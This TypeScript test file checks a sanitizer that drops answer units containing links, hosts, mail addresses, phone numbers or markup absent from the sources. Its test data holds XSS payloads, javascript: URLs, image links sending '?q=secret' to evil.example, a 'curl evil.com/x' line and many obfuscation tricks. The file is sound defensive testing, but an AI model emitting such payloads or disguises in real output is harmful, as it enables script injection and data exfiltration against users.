// Tests which units of an answer may be shown. A unit with an address that no source has is left out as a whole.
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { isThorough } from '../../../test/support/thorough.ts'
import { allowedContentIn } from './allowed-content.ts'
import { sanitizeUnit } from './sanitize.ts'

const allowed = allowedContentIn([
  'See https://shop.example/returns, https://shop.example/a(b) and https://shop.example.',
  'Write to help@shop.example or call +46 40 555 01 20.',
  'We deliver to booking.com and https://münchen.de. Rotate a key with <ID>.',
])
const shown = (unit: string) => sanitizeUnit(unit, allowed)?.text

it('leaves out a title that must not be shown, and keeps the sentence', () => {
  const titled = { ...allowed, titles: ['Returns <b>now</b>', 'Returns'] }
  expect(sanitizeUnit('According to [1], it takes a day.', titled)?.text).toBe(
    'According to, it takes a day.',
  )
  expect(sanitizeUnit('According to [2], it takes a day.', titled)?.text).toBe(
    'According to “Returns”, it takes a day.',
  )
})

describe('a unit', () => {
  it.each([
    'See [our page](https://shop.example/returns).',
    'See [it](<https://shop.example/returns> "title")',
    'See https://shop.example/returns.',
    '**https://shop.example/returns**',
    '(https://shop.example/a(b))',
    '<https://shop.example/returns>',
    'https://shop.example/returns[1]',
    '请看https://shop.example/returns谢谢',
    '[mail](mailto:help@shop.example)',
    '"https://shop.example".',
    'See `https://shop.example`, or so',
    'Ask help@shop.example [1].',
    'Ask **Help@shop.example**, _help@shop.example_',
    'Ask <help@shop.example>',
    '请写信给help@shop.example谢谢',
    'git clone help@shop.example:a/b',
    'npm i lodash@4.17.21 @scope/pkg foo@latest',
    'me@host, @you',
    'e.g. a.b v1.2',
    'See shop.example/returns.',
    'See Shop.example, or **shop.example**',
    'We deliver to Booking.com[1] guests.',
    'See _booking.com_ or `booking.com/`',
    '请看booking.com谢谢',
    'See www.shop.example, WWW.booking.com/ or _www.shop.example/returns_',
    '예약은 booking.com에서 하세요',
    'احجز في booking.com وbooking.com',
    'הזמינו בbooking.com',
    'See booking.com.Then rest',
    'See ｂｏｏｋｉｎｇ．ｃｏｍ and booking\\.com',
    'At münchen.de',
    'Node.js/Express, package.json/yarn.lock and README.md',
    'e.g. this, i.e. that, z.B. dies, d.h. das, p.es. questo, m.in. to',
    'U.S.A., Inc.Ltd, Ph.D., S.p.A., Co.Ltd',
    'v1.2, 4.90, 1.200,50 and 10.30 or 3.14/day',
    'within two days of delivery.The rest is free.In all cases',
    'and/or, w/o, km/h, 24/7, he/she.They',
    'from src/engine/index.ts/x, or lib/my.module/index',
    'ASP.NET and System.IO; die Mitarbeiter.in, Dr.in Weiß',
    '`config.app`, `user.info` and `process.stdin.io`',
    'call user.info() first',
    'at 10:30: yes; ratio 1:2; https: is safe, http:8080',
    'see section 3.de facto',
    '支持API。and more',
    '三十天。中国很大。谢谢',
    '이틀 걸립니다.무료입니다. README.md와 Node.js를 보세요.',
    'يومان.وهو مجاني. افتح README.md وNode.js.',
    '配送需要两到五天，费用为4.90欧元。',
    '1.200.000.000 people, 12.11.2026, 1.2.3.4.5 and 10.0.19045.1',
    'Is it ASP.NET? Or C#, ASP.NET#?',
    '`redux.store` and `java.net.URL`',
    'wait...what, end.\nThen',
    '`//config.load first`',
    'run.sh/run.py, or index.php?id=1 and app.js?v=2',
    'Пишите нам.Сайт работает',
    'Call +46 40 555 01 20, or 040 555 01 20',
    'connect to `redis://shop.example` and read `[1, 2]` or `list[0]`',
    'It costs 1,200.50 EUR from 01.03.2026 to 31.12.2026, 10:30 – 18:00',
    'Order 123-4567890, card 4111 1111 1111 1111, 2019-2024, ISO 2026-11-24',
    'Go to Settings > API, or a < b and 3 <= 4',
    '`Map<String, Item>` holds them',
    'Call [us](tel:+46405550120)',
    'It costs $0.0001234, a share of 0.1234567',
    'Open 08.00 – 17.30, 01/2026 – 06/2026 and 01.02. – 05.03.2026',
    'IBAN DE89 3704 0044 0532 0130 00, order #0012-3456-78',
    'don&#39;t ask',
    'Ampersands &amp; &eacute; &#233; AT&T; &',
    '| Express | &#10003; |',
    'Upgrade from name@4.x to `name@5.x.y`',
    'See part_00531-7-2145',
    'ASP.NET/Core, Dr.med./Prof. and 01.02.24-03.02.24',
    '`(?<!a)b`, `Array<Item | Array<Item>>` and `list[0](x)`',
    "They call it ``free'' here",
    '```json\n{"list": [1, 2], "first": rows[2]}\n```',
  ])('is shown unchanged, without markers › %j', (unit) => {
    expect(shown(unit)).toBe(unit.replace(/ ?\[1\]/g, '').replaceAll('\r', ''))
  })

  it.each([
    'See [our page](https://evil.example/?q=1).',
    'See [our page](https://shop.example/returns?q=secret).',
    '[https://evil.example](https://evil.example)',
    '[x](javascript:alert(1)) [y](data:text/html;base64,PHA+)',
    'a ftp://evil.example b',
    'a _www.evil.example_ b',
    'run javascript:alert(1) here',
    '<https://evil.example>',
    '[a\nb](https://evil.example)',
    '[never closed](https://evil.example',
    '[x](//evil.example)',
    '[x](/\\evil.example) and [y](&#104;ttps://evil.example)',
    '[x](\n//evil.example)',
    '[a\\]](//evil.example)',
    'at https&colon;//evil.example now',
    'at https&#58;//evil.example now',
    'at https&#x3a<b>;//evil.example now',
    'at &#104;ttps://evil.example now',
    'https://shop.example[1].evil.example/pay',
    'https://shop.example<b></b>.evil.example',
    'https://shop.example [1].evil.example',
    'https://shop.example。evil.example',
    'https://shop.example．evil.example',
    'https://shop.example｡evil.example',
    'https://shop.example{.evil.example}',
    'https://shop.example|.evil.example',
    'https://shop.example".evil.example',
    'https://shop.example`.evil.example`',
    '`https://shop.example`.evil.example',
    '[x](https://shop.example).evil.example',
    '[a https://shop.example](//x).evil.example',
    'https://shop.example[.evil.example](//x)',
    'Return [shoes] soon [1].\n\n[shoes]: //shoes.example',
    '[a]: //evil.example/form?q=secret\nMore',
    '[a]: /\\evil.example',
    '[a]: &#104;ttps://evil.example',
    '[a]:javascript&colon;alert(1)',
    'See [a].\n\n[a]:\n  <//evil.example> "title" \nMore',
    '   [a]: //evil.example',
    '- [a]: //evil.example (title)\n- two',
    '> [a]: //evil.example',
    '<b>[a]: //evil.example</b>',
    '[a]: https://shop.example/returns',
    '[Note]: bring your passport',
    '[a\nb]: //evil.example',
    '[a\\[b]: //evil.example',
    '> [a]:\n> //evil.example',
    '[a]<b>: //evil.example',
    '![a chart](https://evil.example/p.png)',
    '![](https://evil.example/?q=secret)',
    '![logo](https://shop.example/returns)',
    '![x][ref]',
    'a <b>bold</b> word',
    '<img src=x onerror=alert(1)>hello',
    '<script>alert(1)</script>',
    'one<br>two',
    '<!-- hidden -->shown',
    '<img src="https://evil.example',
    'parley key rotate <OTHER>',
    '<[1]img src=x onerror=alert(1)>',
    '![1][x](https://evil.example/p.png)',
    'https:[1]//evil.example',
    'https[1]://evil.example',
    'https [1]://evil.example',
    'h[1]ttps://evil.example',
    'www[1].evil.example',
    'www [1].evil.example',
    'htt<b>ps://evil.example',
    '<im<b>g src=x onerror=alert(1)>',
    '!<b>[x](https://evil.example/p.png)',
    '[x]<b>(https://evil.example)',
    '[x][1](javascript:alert(1))',
    'java\u200bscript:alert(1)',
    '!\u200b[x](https://evil.example/p.png)',
    '[x]\u200d(https://evil.example)',
    'NOT_IN_SOURCEShttps://evil.example',
    'httpsNOT_IN_SOURCES://evil.example',
    '<NOT_IN_SOURCES img src=x>',
    '[<](x)img src=x onerror=alert(1)>',
    'w[ww](x).evil.example',
    '[[a] www](x).evil.example',
    'java[script](x):alert(1)',
    'www\\.evil.example',
    'https:\\/\\/evil.example',
    'https:/\\/evil.example',
    '[[a] b](javascript:alert(1))',
    'Call +49 30 1234567 now',
    'Call (212) 555-0100 now',
    'Call 0800 123 4567 now',
    'Use `<img src=x onerror=alert(1)>`',
    '```html\n<script>alert(1)</script>\n```',
    'Open redis://evil.example/0',
    'Call **+49** 30 1234567 now',
    'Call ＋４９ ３０ １２３４５６７ now',
    'Call +49‑30‑1234567 now',
    'Tel.:+49 30 1234567',
    'Call 1-800-555-0199 or 212.555.0100',
    'Call `+49 30 1234567`',
    'Call [us](tel:+491234567890)',
    'Call +881 202 405 5501',
    '[1]: https://shop.example/returns "Returns"',
    '[^1]: Returns',
    'evil&#46com',
    'where x<y holds',
    '[1][a]: /x',
    '`<y onclick=alert(1)>`',
    '`[click](//evil.pizza)` or `[click](&#47;/evil.pizza)`',
    '`//evil.io`',
    'https://shop.example`code`',
    'Call 8 (495) 123-45-67',
    'Call 138 0013 8000',
    '[[1]1]',
    '![x][y',
  ])('is left out › %j', (unit) => {
    expect(shown(unit) ?? '').toBe('')
  })
})

describe('text that only looks like code', () => {
  it.each([
    '\\`[click](//evil.io)\\`',
    'a ` [click](//evil.io)',
    'a ` ![p](//secret.evil.io)',
    'a ` <x-y onclick=alert(1)>z',
    '``a` [click](//evil.io)',
    '\\``a` [click](//evil.io) `',
    '```x``` ![p](//secret.evil.io)',
    '~~~x~~~ ![p](//secret.evil.io)',
    '```\ncode\n``` [p](//secret.evil.io)',
    '```\ncode\n```\n![p](//secret.evil.io)',
    '| ` | [click](//evil.io) | ` |',
  ])('is checked as prose › %j', (unit) => {
    expect(shown(unit)).toBeUndefined()
  })
})

describe('a host or path that no source has', () => {
  it.each([
    'Go to https://evil.example/a, now',
    'Go to https://shop.example/returns/evil now',
    'Go to www.evil.example now',
    'Pay at evil.com/x today',
    'Pay at evil.com.',
    'Pay at EVIL.COM or Evil.Com',
    'Pay at evil.example/x?d=secret now',
    'Pay at evil.example?d=secret now',
    'Pay at evil.example:8080/x now',
    'Pay at //evil.com or \\\\evil.com',
    'Pay at //evil.to, \\/\\/evil.today or **//evil.to**',
    'Pay at www。evil.today or ｗｗｗ.evil.today',
    'Pay at evil.sh/x?d=secret or evil.zip?d=secret',
    'Pay at evil.gov, evil.edu or evil.museum',
    'Pay at evil.орг, evil.닷컴 or evil.在线',
    'Pay at evil&#173;.com or evil&#847;.com',
    'Pay at evil&shy;.com or evil&ZeroWidthSpace;.com',
    'Pay at http:evil.com now',
    'Pay at https:\\\\evil.com now',
    'Pay at https:/evil.com now',
    'Pay at evil。com now',
    'Pay at https://evil。test now',
    'Pay at evil\\.com/x now',
    'Pay at ev\u200bil.com/path now',
    'Pay at pay.evil-shop.co.uk/x now',
    'Pay at evil.com.Then rest',
    'Pay at evil.рф now',
    'Pay at shop.example/returns?d=secret now',
    'Pay at booking.com/evil now',
    'Pay at www.booking.com[1].evil.com',
    'Pay at _evil.com_ now',
    'Pay at (evil.com)',
    'Pay at **evil.com**, "evil.com"!',
    '`curl evil.com/x`',
    'Pay at evil[1].com',
    'Pay at evil [1].com',
    'Pay at evil<b>.com</b>',
    'Pay at evil**.com** now',
    'Pay at ev**il**.com now',
    'Pay at evil.com**now**, evil.com`x` or evil.com*now',
    'Pay at evil.com**/x** or evil.com**x**,evil.org',
    'Pay at `evil`.com now',
    'Pay at evil_._com now',
    'Pay at [evil](x).com',
    'Pay at ｅｖｉｌ．ｃｏｍ or evil․com',
    'evil.com。evil.comThirty',
    'evil.com。evil.com.evil',
    'days```\u200b.com/x',
    'Pay at co.ukThirty//evil.com',
    'Pay at evil.com:8080, evil.com?x or evil.com#x',
    'Pay at evil.com. or evil.com./x now',
    'Pay at 192.0.2.1, 192.0.2.1:80/x or [::1]',
    'Go to //evil.com。shop.example/returns',
    'Go to days.192.0.2.1 now',
    'evil.com.https://shop.example',
    '请看evil.com谢谢',
    '请看例子.中国。谢谢',
    '예약은 evil.com에서 하세요',
    '예약은 evil.co.kr입니다',
    'احجز في وevil.com الآن',
    'הזמינו בevil.com עכשיו',
    '请看例子.com。谢谢',
    'x//evil.com[a b]: y',
    '//evil.com[a]: //evil.example',
    'Pay at пример.рф now',
    'Pay at évil.com now',
    'booking.com[1].evil.com',
    'booking.com。evil',
    '[evil.com](https://shop.example)',
    'Gone. [a]: //evil.example',
    'evil.io+https://shop.example',
    'Pay at shop-help.example or help.shop.example',
    'Pay at shop.support',
    'Pay at shop-evil.at',
    'Pay at //evil.PIZZA',
    'Pay at https://evil.com://shop.example',
    'Pay at https://evil.com+a://shop.example',
    'Pay [here](https://evil.com://shop.example)',
  ])('is not shown › %j', (unit) => {
    expect(shown(unit)).toBeUndefined()
  })
})

describe('a mail address that no source has', () => {
  it.each([
    'Write to boss@evil.example [1].',
    'Write to BOSS+x.y@Mail.Evil.example, now',
    'Write to **boss@evil.example**',
    'Write to help@shop.example.evil.example',
    'Write to boss\\@evil.example or boss@evil\\.example',
    'Write to <boss@evil.example> or xmpp:boss@evil.example',
    'Write to boss@192.0.2.1',
    '请写信给boss@evil.example谢谢',
    'Write to ü@evil.example',
    'Write to boss@évil.example',
    'Write to boss@evil。example',
    'Write to boss&commat;evil.example',
    'https://shop.example\\@evil.example',
    'help@shop.example[1].evil.example',
    'boss@evil[1].example',
    'boss.[1]help@shop.example',
    'boss+<b>help@shop.example</b>',
    'é.help@shop.example',
    'boss@evil.pizza+help@shop.example',
    'Pay at www.evil@évil。today or www.evil.today@évil。today',
    'Pay at www.booking.com/evil, www.evil.com or www.booking.com@evil.com',
    'Pay at user:pass@evil.com/x now',
    'help@shop.example, evil.de@shop.example',
  ])('is not shown › %j', (unit) => {
    expect(shown(unit)).toBeUndefined()
  })
})

describe('content of a source that no reply may contain', () => {
  const poisoned = allowedContentIn([
    'Run [it](javascript:alert(1)) or <x-y onclick=alert(1)>z, ![p](https://evil.example/p.png)',
  ])

  it.each([
    '[it](javascript:alert(1))',
    '<javascript:alert(1)>',
    '<x-y onclick=alert(1)>z',
    '![p](https://evil.example/p.png)',
  ])('is not shown › %j', (unit) => {
    expect(sanitizeUnit(unit, poisoned)).toBeUndefined()
  })
})

describe('any unit', () => {
  const disguises: readonly ((host: string) => string)[] = [
    (host) => host,
    (host) => `https://${host}/x`,
    (host) => `http:${host}`,
    (host) => `www.${host}`,
    (host) => `**${host}**`,
    (host) => host.replace('.', '。'),
    (host) => host.replace('.', '[1].'),
    (host) => host.replace('.', '\\.'),
    (host) => host.replace('.', '&period;'),
    (host) => host.replace('i', 'i\u200b'),
    (host) => host.replace('i', '*i*'),
    (host) => `[here](https://${host})`,
    (host) => `boss@${host}`,
    (host) => `https://shop.example.${host}`,
  ]
  const words = fc.array(fc.constantFrom('We', 'ship', 'daily', 'to', 'you,', 'free'), {
    maxLength: 8,
  })

  it('never shows an address that no source has, however it is disguised', () => {
    fc.assert(
      fc.property(words, words, fc.constantFrom(...disguises), (before, after, disguise) => {
        const unit = [...before, disguise('evil-shop.com'), ...after].join(' ')
        expect(shown(unit), unit).toBeUndefined()
      }),
      { numRuns: 500 },
    )
  })

  it('never joins a host to an address of a source', () => {
    const glued: string[] = []
    // Beyond the first thousand characters, CI tests each, and other runs one of seven.
    const next = (code: number) => code + (isThorough || code < 0x4_00 ? 1 : 7)
    for (let code = 0x20; code < 0x1_00_00; code = next(code)) {
      // One ideograph and one syllable stand for all others.
      if (code >= 0x34_00 && code < 0xe0_00 && (code % 64 > 0 || code >= 0xd8_00)) continue
      const text = shown(`https://shop.example${String.fromCodePoint(code)}.evil.example/x`)
      if (text !== undefined) glued.push(text)
    }
    expect(glued).toEqual([])
  })

  it('of plain words is shown unchanged', () => {
    const plain = fc.array(fc.stringMatching(/^[A-Za-zäöüéß’,;!?-]{1,12}$/), { minLength: 1 })
    fc.assert(
      fc.property(plain, (list) => {
        const unit = list.join(' ')
        expect(shown(unit)).toBe(unit)
      }),
    )
  })

  it('does not change when it is sanitized again', () => {
    const parts = fc.constantFrom(
      'We',
      ' ',
      '[1]',
      '.',
      '`',
      '<',
      '(',
      ')',
      '*',
      'shop.example',
      '1',
    )
    fc.assert(
      fc.property(fc.array(parts, { maxLength: 15 }), (list) => {
        const once = shown(list.join(''))
        if (once !== undefined) expect(shown(once)).toBe(once)
      }),
    )
  })

  it('of 40,000 characters is read in linear time', () => {
    for (const part of ['a.', '[', '[a](', '<', '`', '1 ', '@', '&', '(', '\\', 'www.']) {
      sanitizeUnit(part.repeat(40_000 / part.length), allowed)
    }
  })
})
